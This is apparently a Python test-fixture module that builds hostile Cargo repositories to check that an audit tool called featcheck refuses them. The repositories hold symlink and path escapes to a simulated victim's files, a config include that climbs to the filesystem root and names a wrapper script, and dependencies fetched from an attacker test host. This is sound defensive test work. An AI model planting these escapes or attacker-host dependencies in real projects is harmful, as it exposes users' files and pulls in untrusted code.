"""The family of hostile checkouts the matrix runs every entry point against.

Four checkouts, each the template crate's manifest (crates/pitb-exec-cpu: one FC001 finding)
over the offline synthetic burn of `hostile_support.SMALL_BURN`, each holding many attacks at
once:

- `clean`: the template in an honest repository: the control, on which every entry point must
  do its work (so that a row that passes did reach the code it is meant to test).
- `planted`: attacks featcheck must ignore while still auditing: Python modules at the root
  that Python imports from the current directory, a `.cargo/config.toml` that names programs
  (wrappers, rustc, runner, linker, credential providers, aliases), preloads a shared object,
  writes files through rustflags and points target-dir outside, a build script and a
  proc-macro, a cargo home, a featcheck cache and a rustup home prepared for CARGO_HOME,
  XDG_CACHE_HOME or RUSTUP_HOME to point inside it (see hostile_columns.py), and a hostile
  `.git` (hostile_git.py).
- `escapes`: ways out of the checkout, each to be refused: a `Cargo.lock`, a path dependency's
  `Cargo.toml`, a member directory and a crate root (`src/main.rs`) that link out, report and
  baseline names that link to the user's files, a `baseline` outside in `featcheck.toml`, an
  `include` and a rustflags argument file outside, and a `.git` file naming the user's other
  repository.
- `network`: hosts the checkout names (a git dependency and a `registry-index` on the attacker's
  host, where the user's git credential helper would answer), and a `cfg(not(not(...)))` 3,000
  levels deep.
"""

from __future__ import annotations

import shutil
from dataclasses import dataclass
from pathlib import Path

from hostile_git import commit_everything, git
from hostile_world import VICTIM_SECRET, World

PACKAGE = "pitb-exec-cpu"
CFG_DEPTH = 3000
CLIMB = "../" * 30
"""A relative path prefix that reaches / from any directory up to 30 levels deep."""


@dataclass(frozen=True)
class Checkout:
    name: str
    root: Path
    """The repository as built; each run works on its own copy."""
    project: str
    """The audited directory, relative to the root."""
    revisions: tuple[str, ...]
    """What `--new-since` is tried at (the first also where one revision is enough)."""
    base: str
    """The pull request's base commit the Action is given (one the repository may lack)."""
    attacks: tuple[str, ...]


def copy_template(root: Path, template: Path) -> None:
    (root / "src").mkdir(parents=True)
    shutil.copy(template / "Cargo.toml", root / "Cargo.toml")
    shutil.copy(template / "Cargo.lock", root / "Cargo.lock")
    (root / "src" / "main.rs").write_text("fn main() {}\n")


def append_to_manifest(manifest: Path, text: str) -> None:
    """After the burn line: the finding stays where the template has it."""
    manifest.write_text(manifest.read_text() + text)


def clean(world: World, template: Path) -> Checkout:
    root = world.base / "family" / "clean"
    copy_template(root, template)
    (root / "featcheck-baseline.txt").write_text("# no finding accepted\n")
    commit_everything(root)
    return Checkout("clean", root, ".", ("HEAD~1",), revision_sha(root, "HEAD~1"), ())


def revision_sha(root: Path, revision: str) -> str:
    return git(root, "rev-parse", revision)


# --- escapes -----------------------------------------------------------------------------------


def victim_files(world: World) -> None:
    """The user's files the escapes checkout points at."""
    victim = world.victim
    (victim / "Cargo.lock").write_text(
        f'version = 4\n\n[[package]]\nname = "{VICTIM_SECRET}"\nversion = "0.1.0"\n'
    )
    (victim / "baseline.txt").write_text(f"# {VICTIM_SECRET}\nFC001 0123456789abcdef\n")
    for name in ("report.sarif", "report.out"):
        (victim / name).write_text(f"{VICTIM_SECRET}: the user's file\n")
    (victim / "flags").write_text(f"--print=cfg={world.markers / 'argument-file'}\n")
    # Followed, it would make the member no_std, and its finding would go.
    (victim / "no_std.rs").write_text(f"// {VICTIM_SECRET}\n#![no_std]\n")
    wrapper = world.marker_script(victim / "bin" / "included-wrapper")
    (victim / "evil.toml").write_text(f'[build]\nrustc-wrapper = "{wrapper}"\n')
    for name in ("member", "dep"):
        (victim / name / "src").mkdir(parents=True)
        (victim / name / "src" / "lib.rs").write_text(f"// {VICTIM_SECRET}\n")
        (victim / name / "Cargo.toml").write_text(
            f'# {VICTIM_SECRET}\n[package]\nname = "{name}"\nversion = "0.1.0"\nedition = "2021"\n'
        )


def escapes(world: World, template: Path) -> Checkout:
    root = world.base / "family" / "escapes"
    victim = world.victim
    (root / "app").mkdir(parents=True)
    copy_template(root / "app", template)
    (root / "app" / "Cargo.lock").unlink()
    append_to_manifest(root / "app" / "Cargo.toml", 'dep = { path = "../dep" }\n')
    (root / "Cargo.toml").write_text(
        '[workspace]\nresolver = "2"\nmembers = ["app", "outside-member"]\n'
    )
    links = {
        "Cargo.lock": victim / "Cargo.lock",
        "featcheck-baseline.txt": victim / "baseline.txt",
        "featcheck.sarif": victim / "report.sarif",
        "featcheck.out": victim / "report.out",
        "dep/Cargo.toml": victim / "dep" / "Cargo.toml",
        "outside-member": victim / "member",
        "app/src/main.rs": victim / "no_std.rs",
    }
    for name, target in links.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).unlink(missing_ok=True)
        (root / name).symlink_to(target)
    (root / "dep" / "src").mkdir()
    (root / "dep" / "src" / "lib.rs").write_text("")
    (root / "featcheck.toml").write_text(f'baseline = "{victim / "baseline.txt"}"\n')
    (root / ".cargo").mkdir()
    (root / ".cargo" / "config.toml").write_text(
        f'include = ["{CLIMB}{str(victim / "evil.toml").lstrip("/")}"]\n'
        f'[build]\nrustflags = ["@{victim / "flags"}"]\n'
    )
    (root / ".git").write_text(f"gitdir: {victim / 'repo' / '.git'}\n")
    return Checkout(
        "escapes",
        root,
        ".",
        ("HEAD",),
        revision_sha(victim / "repo", "HEAD"),
        (
            "lockfile-links-out",
            "path-dependency-manifest-links-out",
            "member-directory-links-out",
            "crate-root-links-out",
            "report-names-link-out",
            "baseline-outside",
            "include-outside",
            "rustflags-argument-file",
            "git-file-names-another-repository",
        ),
    )


# --- network -----------------------------------------------------------------------------------


def network(world: World, template: Path) -> Checkout:
    root = world.base / "family" / "network"
    copy_template(root, template)
    host = world.host.address
    cfg = "not(" * CFG_DEPTH + "unix" + ")" * CFG_DEPTH
    manifest = (
        (root / "Cargo.toml")
        .read_text()
        .replace(
            "[dependencies]\n",
            "[dependencies]\n"
            f'evil-git = {{ git = "http://{host}/evil.git" }}\n'
            f'internal = {{ version = "1", registry-index = "sparse+http://{host}/index/" }}\n',
        )
    )
    (root / "Cargo.toml").write_text(
        manifest + f"\n[target.'cfg({cfg})'.dependencies]\n"
        'burn = { version = "=0.22.1", default-features = false }\n'
    )
    commit_everything(root)
    return Checkout(
        "network",
        root,
        ".",
        ("HEAD~1",),
        revision_sha(root, "HEAD~1"),
        ("git-dependency-on-the-attackers-host", "registry-index-on-it", "cfg-3000-deep"),
    )
